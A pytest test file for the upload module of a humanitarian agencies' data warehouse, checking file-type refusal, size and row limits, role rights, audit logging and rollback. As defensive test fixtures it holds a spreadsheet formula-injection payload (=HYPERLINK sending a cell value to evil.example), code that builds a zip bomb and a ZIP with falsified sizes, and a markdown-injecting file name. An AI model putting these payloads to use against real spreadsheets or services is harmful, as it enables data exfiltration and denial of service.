"""Uploads: rights, limits and hostile files (refused, nothing written), the data page, rollback.

Every refusal is checked twice: the message says why, and the warehouse holds exactly what it
held before (no batch, no row). Every outcome is in the audit log.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from files import GOOD, GOOD_ROWS
from sqlalchemy import func, select
from streamlit.testing.v1 import AppTest

from data_access import audit, auth, importer, plan, schema, uploads

APP = Path(__file__).resolve().parent.parent / "app.py"
HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
SMALL = uploads.Limits(max_mb=1, max_rows=100)


def actor(role: str, user: str | None = None) -> audit.Actor:
    return audit.Actor(user or f"{role}@example.org", role, "oidc")


def xlsx(rows: list[list[object]]) -> bytes:
    frame = pl.DataFrame(rows[1:], schema=[str(c) for c in rows[0]], orient="row")
    buffer = io.BytesIO()
    frame.write_excel(buffer)
    return buffer.getvalue()


def counts(engine) -> tuple[int, int]:
    """(import batches, dataset rows in every dataset table): what a refusal must not change."""
    with engine.connect() as connection:
        batches = connection.execute(select(func.count()).select_from(schema.import_batch)
                                     ).scalar_one()
        rows = sum(connection.execute(select(func.count()).select_from(table)).scalar_one()
                   for table in schema.DATASET_TABLES.values())
    return batches, rows


def logged(engine, action: str) -> list[tuple]:
    return audit.events(engine, actions=[action]).sort("id").select(
        "user_name", "audience", "target").rows()


# ----------------------------------------------------------------------------- the file itself
@pytest.mark.parametrize("name", ["population.exe", "population.xls", "population.json",
                                  "population", "population.csv.exe", "population.zip",
                                  "population.html"])
def test_only_csv_and_xlsx_are_accepted(name):
    with pytest.raises(uploads.UploadRefused, match="only CSV .* and Excel .* are accepted"):
        uploads.check_file(GOOD["population"].encode(), name, SMALL)


def test_an_empty_file_is_refused():
    with pytest.raises(uploads.UploadRefused, match="the file is empty"):
        uploads.check_file(b"", "population.csv", SMALL)


def test_a_file_over_the_size_limit_is_refused_with_its_size():
    huge = GOOD["population"].encode() + b"2025-12-31,REF,AFG,TJ-DU,,F,0-4,1\n" * 40_000
    with pytest.raises(uploads.UploadRefused, match=r"the file is 1\.3 MB; the limit is 1 MB"):
        uploads.check_file(huge, "population.csv", SMALL)


def test_a_file_over_the_row_limit_is_refused():
    rows = GOOD["population"] + "2025-12-31,REF,AFG,TJ-DU,,F,0-4,1\n" * 200
    with pytest.raises(uploads.UploadRefused, match=r"about 204 rows; the limit is 100"):
        uploads.check_file(rows.encode(), "population.csv", SMALL)
    assert uploads.check_file(rows.encode(), "p.csv", uploads.Limits(max_rows=204)) == 205


@pytest.mark.parametrize(("data", "reason"), [
    (b"PK\x03\x04" + b"\x00" * 64, "ZIP or Excel file named .csv"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a text CSV file"),
    (b"MZ\x90\x00\x03\x00\x00\x00", "not a text CSV file"),  # a Windows program
])
def test_binary_files_named_csv_are_refused(data, reason):
    with pytest.raises(uploads.UploadRefused, match=reason):
        uploads.check_file(data, "population.csv", SMALL)


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("data", [
    GOOD["population"].encode(),  # a CSV renamed .xlsx
    b"PK\x03\x04 not really a zip",
    zip_of({"population.csv": GOOD["population"].encode()}),  # a ZIP, not a workbook
])
def test_something_else_named_xlsx_is_refused(data):
    with pytest.raises(uploads.UploadRefused, match="not an Excel workbook"):
        uploads.check_file(data, "population.xlsx", SMALL)


def test_a_workbook_that_expands_enormously_is_not_opened():
    bomb = zip_of({"[Content_Types].xml": b"<Types/>",
                   "xl/worksheets/sheet1.xml": b"\x00" * (25 * 1024 * 1024)})
    assert len(bomb) < 100_000
    with pytest.raises(uploads.UploadRefused, match="expands to more than"):
        uploads.check_file(bomb, "population.xlsx", SMALL)


def lying_sizes(data: bytes, member_size: int, declared: int) -> bytes:
    """`data` (a ZIP) with `member_size` replaced by `declared` in its headers."""
    import struct

    return data.replace(struct.pack("<I", member_size), struct.pack("<I", declared))


def test_a_workbook_lying_about_its_size_is_not_opened():
    sheet = b"<row/>" * (5 * 1024 * 1024)  # 30 MB of XML, declared as 1,000 bytes
    bomb = lying_sizes(zip_of({"[Content_Types].xml": b"<Types/>",
                               "xl/worksheets/sheet1.xml": sheet}), len(sheet), 1000)
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert sum(m.file_size for m in archive.infolist()) < 2000  # what it claims
    with pytest.raises(uploads.UploadRefused):
        uploads.check_file(bomb, "population.xlsx", SMALL)


def test_a_csv_with_old_mac_line_ends_or_a_huge_cell_is_read_or_refused_cleanly(engine):
    mac = GOOD["population"].replace("\n", "\r").encode()
    assert uploads.check_file(mac, "population.csv", SMALL) >= 1
    result = importer.import_file(engine, "population", mac, user="t", file_name="mac.csv")
    assert result.rows == GOOD_ROWS["population"]
    huge = ("date,persons\n" + "2025-12-31," + "9" * 200_000 + "\n").encode()
    with pytest.raises(importer.ImportRefused, match="cannot be read"):
        importer.import_file(engine, "population", huge, user="t", file_name="huge.csv")


def test_a_real_workbook_passes_with_its_row_count():
    data = xlsx([["date", "persons"], ["2025-12-31", 1], ["2025-12-31", 2]])
    assert uploads.check_file(data, "Population.XLSX", SMALL) == 3


# ----------------------------------------------------------------------------- import_upload
def test_an_agency_imports_its_own_data_and_it_is_audited(engine):
    result = uploads.import_upload(engine, "education", GOOD["education"].encode(),
                                   "C:\\Users\\aziza\\enrolment.csv", actor=actor("unicef"))
    assert (result.status, result.rows) == ("imported", GOOD_ROWS["education"])
    batch = importer.list_batches(engine).row(0, named=True)
    assert (batch["file_name"], batch["user_name"]) == ("enrolment.csv", "unicef@example.org")
    assert logged(engine, "import") == [("unicef@example.org", "unicef", "education")]
    [detail] = audit.events(engine, actions=["import"])["detail"]
    assert detail == f"batch {result.batch_id}: enrolment.csv, {GOOD_ROWS['education']} rows"


def test_an_import_whose_audit_line_cannot_be_written_is_not_imported(engine, monkeypatch):
    real = audit.record

    def failing(target, actor_, action, *args, **kwargs):
        if action in ("import", "rollback"):
            raise RuntimeError("audit table unavailable")
        return real(target, actor_, action, *args, **kwargs)

    monkeypatch.setattr(audit, "record", failing)
    with pytest.raises(RuntimeError):
        uploads.import_upload(engine, "education", GOOD["education"].encode(), "e.csv",
                              actor=actor("unicef"))
    assert importer.list_batches(engine).is_empty()  # one transaction: nothing was written
    monkeypatch.setattr(audit, "record", real)
    result = uploads.import_upload(engine, "education", GOOD["education"].encode(), "e.csv",
                                   actor=actor("unicef"))
    monkeypatch.setattr(audit, "record", failing)
    with pytest.raises(RuntimeError):
        uploads.rollback_batch(engine, result.batch_id, actor=actor("admin"))
    assert importer.list_batches(engine).row(0, named=True)["status"] == "active"


@pytest.mark.parametrize(("role", "dataset"), [
    ("unicef", "population"), ("unicef", "asylum"), ("unicef", "joint_plan"),
    ("unhcr", "funding"), ("unhcr", "joint_plan_updates"), ("admin", "joint_plan_updates"),
    ("donor", "population"), ("donor", "education"),
])
def test_a_role_may_not_import_another_agencys_data(engine, role, dataset):
    before = counts(engine)
    with pytest.raises(auth.NotAllowed, match=f"The {role} role may not import"):
        uploads.import_upload(engine, dataset, GOOD[dataset].encode(), f"{dataset}.csv",
                              actor=actor(role))
    assert counts(engine) == before == (0, 0)
    assert logged(engine, "refused") == [(f"{role}@example.org", role, dataset)]


@pytest.mark.parametrize(("name", "data", "reason"), [
    ("population.exe", GOOD["population"].encode(), "only CSV"),
    ("population.csv", b"\x00\x01binary" * 10, "not a text CSV"),
    ("population.csv", GOOD["population"].encode() + b"2025-12-31,REF,AFG,TJ-DU,,F,0-4,1\n" * 120,
     "the limit is 100"),
    ("population.xlsx", b"<html>not a workbook</html>", "not an Excel workbook"),
])
def test_a_hostile_file_is_refused_and_nothing_is_written(engine, name, data, reason):
    uploads.import_upload(engine, "education", GOOD["education"].encode(), "e.csv",
                          actor=actor("unhcr"))
    before = counts(engine)
    with pytest.raises(uploads.UploadRefused, match=reason):
        uploads.import_upload(engine, "population", data, name, actor=actor("unhcr"),
                              limit=SMALL)
    assert counts(engine) == before
    [(user, audience, target)] = logged(engine, "import_refused")
    assert (user, audience, target) == ("unhcr@example.org", "unhcr", "population")


def test_invalid_rows_are_refused_whole_and_the_report_neutralises_formulas(engine):
    bad = GOOD["population"].replace("2025-12-31,REF,AFG,TJ-RA,Vahdat,F,0-4,120",
                                     f'2025-12-31,REF,AFG,TJ-RA,"{HOSTILE.replace(chr(34), 2 * chr(34))}",F,0-4,120')
    bad += "2025-12-31,REF,AFG,TJ-DU,,F,0-4,-5\n"
    with pytest.raises(importer.ImportRefused) as refused:
        uploads.import_upload(engine, "population", bad.encode(), "population.csv",
                              actor=actor("unhcr"))
    assert counts(engine) == (0, 0)
    problems = refused.value.problems
    assert problems.height == 2
    assert HOSTILE in problems["value"].to_list()  # shown on screen as it was
    report = uploads.problem_report(problems)
    text = report.decode("utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in text  # neutralised: Excel shows it as text
    parsed = pl.read_csv(io.BytesIO(report), infer_schema_length=0)
    assert not [v for v in parsed["value"].to_list() if v and v[0] in "=+-@"]
    assert logged(engine, "import_refused") == [("unhcr@example.org", "unhcr", "population")]
    assert audit.events(engine, actions=["import_refused"])["detail"][0] == \
        "2 problem(s) in population.csv"


def test_a_formula_in_a_text_field_stays_text_in_the_workplan_export(engine):
    hostile_plan = GOOD["joint_plan"].replace("Enrol refugee children in national schools",
                                              f'"{HOSTILE.replace(chr(34), 2 * chr(34))}"')
    hostile_plan = hostile_plan.replace("Ministry of Education", "@SUM(1+1)")
    uploads.import_upload(engine, "joint_plan", hostile_plan.encode(), "plan.csv",
                          actor=actor("admin"))
    with engine.connect() as connection:
        workbook = plan.export_workplan(connection)
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheets = "".join(archive.read(n).decode() for n in archive.namelist()
                         if n.startswith("xl/worksheets/"))
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheets  # no cell of the workbook is a formula
    assert "HYPERLINK" in strings and "@SUM(1+1)" in strings  # kept, as text
    activities = pl.read_excel(io.BytesIO(workbook), sheet_name="activities")
    assert HOSTILE in activities["title"].to_list()


def test_rollback_is_for_the_data_manager(engine):
    result = uploads.import_upload(engine, "education", GOOD["education"].encode(), "e.csv",
                                   actor=actor("unicef"))
    with pytest.raises(auth.NotAllowed, match="Only the data manager"):
        uploads.rollback_batch(engine, result.batch_id, actor=actor("unicef"))
    assert counts(engine) == (1, GOOD_ROWS["education"])
    done = uploads.rollback_batch(engine, result.batch_id, actor=actor("admin"))
    assert done.removed_rows == GOOD_ROWS["education"]
    assert counts(engine) == (1, 0)
    assert logged(engine, "rollback") == [("admin@example.org", "admin", "education")]
    assert logged(engine, "refused") == [("unicef@example.org", "unicef",
                                          f"batch {result.batch_id}")]


def test_freshness_and_history_follow_the_role(any_engine):
    engine = any_engine
    uploads.import_upload(engine, "education", GOOD["education"].encode(), "e.csv",
                          actor=actor("unicef"))
    uploads.import_upload(engine, "asylum", GOOD["asylum"].encode(), "a.csv",
                          actor=actor("unhcr"))
    fresh = uploads.freshness(engine, "unhcr").filter(pl.col("rows") > 0)
    assert fresh.select("dataset", "rows", "first", "last", "imported_by", "file").rows() == [
        ("asylum", 3, "2025-01", "2025-02", "unhcr@example.org", "a.csv"),
        ("education", 3, "2024/25", "2024/25", "unicef@example.org", "e.csv"),
    ]
    assert set(uploads.freshness(engine, "unicef")["dataset"]) == {
        "education", "statelessness", "birth_registration"}
    assert uploads.history(engine, "unicef")["dataset"].to_list() == ["education"]
    assert uploads.history(engine, "admin")["dataset"].to_list() == ["asylum", "education"]
    assert uploads.freshness(engine, "admin").height == len(uploads.ds.DATASETS)


@pytest.mark.parametrize(("name", "value"), [("HAMKORI_UPLOAD_MAX_MB", "0"),
                                             ("HAMKORI_UPLOAD_MAX_ROWS", "many")])
def test_bad_limits_are_refused(monkeypatch, name, value):
    monkeypatch.setenv(name, value)
    with pytest.raises(auth.ConfigurationError, match=name):
        uploads.limits()


# ----------------------------------------------------------------------------- the data page
@pytest.fixture
def warehouse(engine, sqlite_url, monkeypatch, fresh_caches):
    monkeypatch.setenv("HAMKORI_WAREHOUSE_URL", sqlite_url)
    monkeypatch.setenv("HAMKORI_USER", "server")
    return engine


def data_page(audience: str) -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=30)
    at.query_params["audience"] = audience
    at.run()
    at.switch_page("pages/data.py").run()
    assert not at.exception
    return at


def upload(at: AppTest, dataset: str, name: str, data: bytes) -> AppTest:
    at.selectbox(key="data.dataset").set_value(dataset).run()
    at.file_uploader(key="data.file").set_value((name, data, "text/csv")).run()
    at.button(key="data.import").click().run()
    assert not at.exception
    return at


def texts(elements) -> str:
    return "\n".join(str(e.value) for e in elements)


def test_the_page_offers_each_role_its_datasets(warehouse):
    at = data_page("unicef")
    assert at.selectbox(key="data.dataset").options == [
        "Education enrolment (per school year) (education)",
        "Statelessness cases (statelessness)",
        "Birth registration of children under five (birth_registration)"]
    uploader = at.file_uploader(key="data.file")
    assert uploader.label == "File to import (CSV or XLSX)"
    assert uploader.allowed_type == []  # the extension is checked by data_access.uploads
    assert uploader.proto.max_upload_size_mb == 50
    assert at.button(key="data.import").disabled  # nothing to import yet


def test_a_good_upload_is_imported_and_listed(warehouse):
    at = upload(data_page("unicef"), "education", "enrolment.csv", GOOD["education"].encode())
    assert ("enrolment.csv: imported 3 rows into Education enrolment (per school year) (education) "
            "as batch 1") in texts(at.success)
    history = at.dataframe[-1].value
    assert list(history["file_name"]) == ["enrolment.csv"]
    assert list(history["user_name"]) == ["unicef:server"]
    fresh = at.dataframe[0].value
    row = fresh[fresh["dataset"] == "education"].iloc[0]
    assert (row["rows"], row["first"], row["last"]) == (3, "2024/25", "2024/25")
    assert logged(warehouse, "import") == [("unicef:server", "unicef", "education")]
    assert audit.events(warehouse, actions=["import"])["mode"].to_list() == ["demo"]


def test_a_bad_upload_shows_every_problem_and_writes_nothing(warehouse):
    bad = GOOD["education"].replace("2024/25,TJ-RA,REF,primary,F,400,380,350,",
                                    f'2024/25,TJ-XX,REF,primary,F,400,380,350,"{HOSTILE.replace(chr(34), 2 * chr(34))}"')
    at = upload(data_page("unicef"), "education", "enrolment.csv", bad.encode())
    assert "2 problems found; nothing was imported" in texts(at.error)
    problems = at.dataframe[0].value
    assert set(problems["column"]) == {"region", "dafi_scholars"}
    assert list(problems.columns) == ["row", "column", "value", "reason"]
    [report] = [b for b in at.get("download_button") if b.proto.label.startswith("Download the")]
    assert report.proto.label == "Download the problems (CSV)"
    assert counts(warehouse) == (0, 0)
    assert "Nothing imported yet." in texts(at.info)


def test_a_refused_upload_s_problems_follow_the_language(warehouse):
    """Problems are worded when the file is checked; after a change of language the page
    checks the kept file again (the warehouse untouched) and words them in the new one."""
    bad = GOOD["education"].replace("2024/25,TJ-RA,REF,primary,F,400,380,350,",
                                    "2024/25,TJ-XX,REF,primary,F,many,380,350,")
    at = upload(data_page("unicef"), "education", "enrolment.csv", bad.encode())
    english = at.dataframe[0].value["reason"].tolist()
    assert any(reason.startswith("unknown region") for reason in english)
    at.selectbox(key="lang").set_value("ru").run()
    assert not at.exception
    russian = at.dataframe[0].value["reason"].tolist()
    assert len(russian) == len(english) and not set(russian) & set(english)
    assert any("регион" in reason for reason in russian)
    assert "2 проблемы" in texts(at.error) or "2\u00a0проблемы" in texts(at.error)
    assert counts(warehouse) == (0, 0)


def test_a_refused_upload_is_checked_again_once_per_language(warehouse, monkeypatch):
    checks = []
    recheck = importer.file_problems
    monkeypatch.setattr(importer, "file_problems", lambda *a: checks.append(a) or recheck(*a))
    bad = GOOD["education"].replace("TJ-RA", "TJ-XX")
    at = upload(data_page("unicef"), "education", "enrolment.csv", bad.encode())
    at.selectbox(key="lang").set_value("tg").run()
    at.checkbox(key="data.replace").check().run()  # another click: no new check
    assert len(checks) == 1 and not at.exception
    tajik = at.dataframe[0].value["reason"].tolist()
    at.file_uploader(key="data.file").set_value(None).run()  # the file taken away: kept as worded
    at.selectbox(key="lang").set_value("en").run()
    assert len(checks) == 1 and at.dataframe[0].value["reason"].tolist() == tajik


def test_an_upload_s_outcome_is_not_shown_to_another_audience(warehouse):
    """Demo mode: the data manager's refused upload (its problem table quotes the file's
    values) is not shown once the switch says UNICEF."""
    bad = GOOD["education"].replace("TJ-RA", "TJ-XX")
    at = upload(data_page("admin"), "education", "enrolment.csv", bad.encode())
    assert at.dataframe and "problems found" in texts(at.error)
    at.selectbox(key="audience").set_value("unicef").run()
    assert not at.exception
    assert "problems found" not in texts(at.error)
    assert all("reason" not in table.value.columns for table in at.dataframe)


@pytest.mark.parametrize(("name", "data", "message"), [
    ("enrolment.exe", GOOD["education"].encode(), "only CSV (.csv) and Excel (.xlsx)"),
    ("enrolment.csv", b"MZ\x90\x00\x03\x00\x00\x00binary", "not a text CSV file"),
    ("![x](http:evil.example t.png).csv", b"MZ\x00binary", "_x__http:evil.example t.png_.csv"),
])
def test_a_hostile_upload_is_refused_on_the_page(warehouse, name, data, message):
    at = upload(data_page("unhcr"), "education", name, data)
    assert message in texts(at.error)
    assert "](" not in texts(at.error)  # a file name cannot draw a link or an image
    assert counts(warehouse) == (0, 0)
    assert logged(warehouse, "import_refused") == [("unhcr:server", "unhcr", "education")]


def test_the_row_limit_is_said_plainly(warehouse, monkeypatch):
    monkeypatch.setenv("HAMKORI_UPLOAD_MAX_ROWS", "2")
    at = upload(data_page("unhcr"), "education", "enrolment.csv", GOOD["education"].encode())
    assert re.search(r"about 3 rows; the limit is 2\. Split it", texts(at.error))
    assert counts(warehouse) == (0, 0)


def test_the_data_manager_rolls_an_import_back_on_the_page(warehouse):
    uploads.import_upload(warehouse, "education", GOOD["education"].encode(), "e.csv",
                          actor=actor("unicef"))
    unicef = data_page("unicef")
    assert not [b for b in unicef.button if b.label == "Roll back"]  # agencies cannot
    at = data_page("admin")
    at.checkbox(key="data.rollback.sure").check().run()
    at.button(key="data.rollback.go").click().run()
    assert not at.exception
    assert ("rolled back batch 1 — Education enrolment (per school year) (education): 3 rows "
            "removed") in texts(at.success)
    assert counts(warehouse) == (1, 0)
    assert list(at.dataframe[-1].value["status"]) == ["rolled back"]  # the status in words
    assert logged(warehouse, "rollback") == [("admin:server", "admin", "education")]
